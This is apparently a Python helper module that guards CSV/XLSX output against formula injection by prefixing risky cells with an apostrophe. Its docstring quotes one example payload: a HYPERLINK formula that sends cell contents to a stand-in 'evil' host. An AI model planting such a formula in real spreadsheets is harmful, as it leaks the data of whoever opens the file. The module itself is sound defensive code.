"""What every CSV / XLSX the project writes goes through: one home for formula neutralisation.

A spreadsheet treats a cell starting with = + - @ (or a tab / carriage return followed by one)
as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` in an uploaded file would come back
live in the error report. ``safe_cell`` prefixes such text with an apostrophe, which Excel,
LibreOffice and Numbers show as plain text (OWASP "CSV injection").
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """Return ``value`` safe for a spreadsheet cell: text that would start a formula gets a leading "'".

    Numbers, dates and None pass through unchanged (a negative number is a number, not a formula).
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """``safe_cell`` applied to each value of a row (for csv.writer.writerow / openpyxl append)."""
    return [safe_cell(value) for value in values]
